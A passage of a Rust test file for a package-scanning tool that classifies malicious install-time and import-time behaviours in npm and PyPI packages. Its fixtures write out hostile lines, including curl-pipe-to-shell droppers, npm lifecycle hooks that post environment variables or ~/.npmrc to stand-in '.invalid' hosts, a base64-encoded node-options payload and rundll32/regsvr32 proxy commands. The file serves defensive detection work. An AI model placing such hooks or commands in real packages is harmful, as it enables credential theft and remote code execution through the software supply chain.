        assert_eq!(
            found(&a, "build.sh", K::DownloadExecute),
            Some(Context::Install),
            "{:?}",
            a.behaviours
        );
    }

    #[test]
    fn javascript_in_a_python_distribution_runs_in_the_browser_not_on_import() {
        let js = "const cp = require('child_process');\ncp.execSync('curl -s http://stage.invalid/a | sh');\n";
        let pypi = analyse(
            "demo-1.0.tar.gz",
            "demo-1.0/",
            &[
                (
                    "PKG-INFO",
                    "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
                ),
                ("demo/__init__.py", "VERSION = '1.0'\n"),
                ("demo/static/app.js", js),
            ],
        );
        assert_eq!(
            found(&pypi, "demo/static/app.js", K::DownloadExecute),
            Some(Context::Runtime),
            "{:?}",
            pypi.behaviours
        );
        // The same file is the entry of an npm package: it runs when required.
        let npm = npm(&[
            (
                "package.json",
                r#"{"name":"demo","version":"1.0.0","main":"static/app.js"}"#,
            ),
            ("static/app.js", js),
        ]);
        assert_eq!(
            found(&npm, "static/app.js", K::DownloadExecute),
            Some(Context::Import),
            "{:?}",
            npm.behaviours
        );
        // setup.py that runs it with node runs it at install time.
        let run = analyse(
            "demo-1.0.tar.gz",
            "demo-1.0/",
            &[
                (
                    "PKG-INFO",
                    "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
                ),
                (
                    "setup.py",
                    "import subprocess\nfrom setuptools import setup\nsubprocess.run(['node', 'demo/static/app.js'])\nsetup(name='demo')\n",
                ),
                ("demo/static/app.js", js),
            ],
        );
        assert_eq!(
            found(&run, "demo/static/app.js", K::DownloadExecute),
            Some(Context::Install),
            "{:?}",
            run.behaviours
        );
    }

    #[test]
    fn binding_gyp_commands_and_scripts() {
        let a = npm(&[
            (
                "package.json",
                r#"{"name":"demo","version":"1.0.0","gypfile":true}"#,
            ),
            (
                "binding.gyp",
                "{'targets': [{'target_name': 'x', 'sources': ['<!@(sh tools/sources.sh)']}]}",
            ),
            (
                "tools/sources.sh",
                "echo src/a.cc\ncat ~/.npmrc | curl -d @- http://collect.invalid/\n",
            ),
        ]);
        assert_eq!(
            found(&a, "tools/sources.sh", K::SecretExfiltration),
            Some(Context::Install),
            "{:?}",
            a.behaviours
        );
    }

    #[test]
    fn lifecycle_command_strings_are_analysed() {
        let a = npm(&[(
            "package.json",
            r#"{"name":"demo","version":"1.0.0","scripts":{"preinstall":"env | curl -s -X POST --data-binary @- http://collect.invalid/e","postinstall":"node -e \"require('child_process').exec('curl http://payload.invalid/x | sh')\""}}"#,
        )]);
        assert_eq!(
            found(&a, "package.json", K::SecretExfiltration),
            Some(Context::Install)
        );
        assert_eq!(
            found(&a, "package.json", K::DownloadExecute),
            Some(Context::Install),
            "{:?}",
            a.behaviours
        );
        // The benign hooks of popular packages say nothing alarming.
        for hook in [
            "node-gyp rebuild",
            "husky install",
            "echo thanks",
            "node install.js",
        ] {
            let manifest =
                format!(r#"{{"name":"demo","version":"1.0.0","scripts":{{"install":"{hook}"}}}}"#);
            let a = npm(&[
                ("package.json", &manifest),
                ("install.js", "console.log('ok');\n"),
            ]);
            assert!(
                a.behaviours.iter().all(|b| b.kind == K::ProcessSpawn),
                "{hook}: {:?}",
                a.behaviours
            );
        }
    }

    #[test]
    fn a_project_npmrc_runs_what_it_names_at_install_time() {
        let manifest = r#"{"name":"demo","version":"1.0.0"}"#;
        // script-shell naming a shell script without an extension.
        let a = npm(&[
            ("package.json", manifest),
            (".npmrc", "engine-strict=true\nscript-shell=./tools/wrap\n"),
            ("tools/wrap", DROPPER),
        ]);
        assert_eq!(
            found(&a, "tools/wrap", K::DownloadExecute),
            Some(Context::Install),
            "{:?}",
            a.behaviours
        );
        // node-options preloading a base64 data: URL module: decoded and read.
        // `require('child_process').execSync('curl http://payload.invalid/x | sh')`
        let module = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdjdXJsIGh0dHA6Ly9wYXlsb2FkLmludmFsaWQveCB8IHNoJyk=";
        let rc = format!("node-options=--import=data:text/javascript;base64,{module}\n");
        let a = npm(&[("package.json", manifest), (".npmrc", &rc)]);
        assert_eq!(
            found(&a, ".npmrc", K::DecodeExecute),
            Some(Context::Install)
        );
        assert_eq!(
            found(&a, ".npmrc", K::DownloadExecute),
            Some(Context::Install)
        );
        // npm reads no .npmrc but the project's: one in a subfolder runs nothing.
        let a = npm(&[
            ("package.json", manifest),
            ("template/.npmrc", "script-shell=./tools/wrap\n"),
            ("tools/wrap", DROPPER),
        ]);
        assert_eq!(found(&a, "tools/wrap", K::DownloadExecute), None);
        // Harmless settings name nothing to run.
        let a = npm(&[
            ("package.json", manifest),
            (".npmrc", "script-shell=bash\nsave-exact=true\n"),
        ]);
        assert!(a.behaviours.is_empty(), "{:?}", a.behaviours);
    }

    #[test]
    fn secrets_handed_to_a_function_that_sends_its_arguments() {
        let manifest = r#"{"name":"demo","version":"1.0.0","description":"d","main":"index.js"}"#;
        let send = "const https = require('https');\nexports.report = function (payload) {\n  const r = https.request({ host: 'c.example.invalid', method: 'POST' });\n  r.end(JSON.stringify(payload));\n};\n";
        let caller = "const { report } = require('./lib/report');\nreport({ env: process.env });\n";
        let a = npm(&[
            ("package.json", manifest),
            ("index.js", caller),
            ("lib/report.js", send),
        ]);
        assert_eq!(
            found(&a, "index.js", K::SecretExfiltration),
            Some(Context::Import),
            "{:?}",
            a.behaviours
        );
        // The same function handed something else, and a sender of constant data handed
        // secrets: nothing is sent that should not be.
        let harmless =
            "const { report } = require('./lib/report');\nreport({ version: '1.0.0' });\n";
        let a = npm(&[
            ("package.json", manifest),
            ("index.js", harmless),
            ("lib/report.js", send),
        ]);
        assert_eq!(
            found(&a, "index.js", K::SecretExfiltration),
            None,
            "{:?}",
            a.behaviours
        );
        let constant = "const https = require('https');\nexports.report = function (payload) {\n  https.request({ host: 'c.example.invalid', method: 'POST' }).end('ping');\n};\n";
        let a = npm(&[
            ("package.json", manifest),
            ("index.js", caller),
            ("lib/report.js", constant),
        ]);
        assert_eq!(
            found(&a, "index.js", K::SecretExfiltration),
            None,
            "{:?}",
            a.behaviours
        );
    }

    #[test]
    fn a_shell_script_bin_runs_when_its_command_does() {
        let manifest =
            r#"{"name":"demo","version":"1.0.0","description":"d","bin":{"node":"bin/node"}}"#;
        let a = npm(&[("package.json", manifest), ("bin/node", DROPPER)]);
        assert_eq!(
            found(&a, "bin/node", K::DownloadExecute),
            Some(Context::Import),
            "{:?}",
            a.behaviours
        );
        // A script nothing names stays unread.
        let manifest = r#"{"name":"demo","version":"1.0.0","description":"d"}"#;
        let a = npm(&[("package.json", manifest), ("bin/node", DROPPER)]);
        assert_eq!(found(&a, "bin/node", K::DownloadExecute), None);
    }

    #[test]
    fn a_bin_without_extension_is_read_by_its_first_line() {
        let manifest =
            r#"{"name":"demo","version":"1.0.0","description":"d","bin":{"demo":"bin/demo"}}"#;
        let bin = "#!/usr/bin/env node\nrequire('child_process').execSync('curl -s http://payload.invalid/a | sh');\n";
        let a = npm(&[("package.json", manifest), ("bin/demo", bin)]);
        assert!(
            a.behaviours
                .iter()
                .any(|b| b.path.ends_with("bin/demo") && b.kind == K::DownloadExecute),
            "{:?}",
            a.behaviours
        );
    }
}

mod reach {
    //! A script is read when a command names it, not because other code loads something
    //! computed (which reads every other code file).

    use customs_analyze::analyze_package;
    use customs_archive::{Entry, EntryKind, Format, Tree};
    use customs_ecosystem::Package;

    #[test]
    fn computed_loads_do_not_read_scripts() {
        let mut files = [
            (
                "demo-1.0/PKG-INFO",
                "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
            ),
            (
                "demo-1.0/demo/__init__.py",
                "import sys\nexec(sys.argv[1])\n",
            ),
            (
                "demo-1.0/ci/docs.sh",
                "curl -fsSL http://payload.invalid/i.sh | sh\n",
            ),
            // A manifest that names the test folder as a module does not run its scripts.
            (
                "demo-1.0/setup.cfg",
                "[options]\npackages = demo, demo.tests.utils\n",
            ),
            (
                "demo-1.0/demo/tests/utils/ci.sh",
                "bash <(curl -s http://payload.invalid/uploader.sh)\n",
            ),
        ];
        files.sort_unstable();
        let entries = files
            .iter()
            .map(|(path, text)| {
                let mut e =
                    Entry::bare((*path).to_owned(), EntryKind::File, text.len() as u64, None);
                e.data = text.as_bytes().to_vec();
                e.complete = true;
                e
            })
            .collect();
        let tree = Tree {
            format: Format::TarGz,
            entries,
            anomalies: Vec::new(),
            total_bytes: 0,
            incomplete: Vec::new(),
        };
        let a = analyze_package(&Package::from_tree(tree, "demo-1.0.tar.gz"));
        assert!(
            a.behaviours.iter().all(|b| !b.path.ends_with(".sh")),
            "{:?}",
            a.behaviours
        );
    }
}

#[test]
fn shipped_libraries_run_through_windows_proxies() {
    // A library of the package loaded by a signed Windows program: the payload is in the
    // package, the process looks like the system's own.
    for line in [
        "rundll32 ./helper.dll,Start",
        "rundll32.exe \"..\\bin\\core.dll\",DllMain",
        "regsvr32 /s %~dp0ext.ocx",
        "regsvr32 /s ../x64/ext.ocx",
    ] {
        has(line, K::DownloadExecute);
    }
    // System libraries: opening a control panel or the default browser.
    for line in [
        "rundll32 shell32.dll,Control_RunDLL desk.cpl",
        "rundll32.exe user32.dll,LockWorkStation",
        "regsvr32 /s C:\\Windows\\System32\\msxml6.dll",
    ] {
        lacks(line, K::DownloadExecute);
    }
}
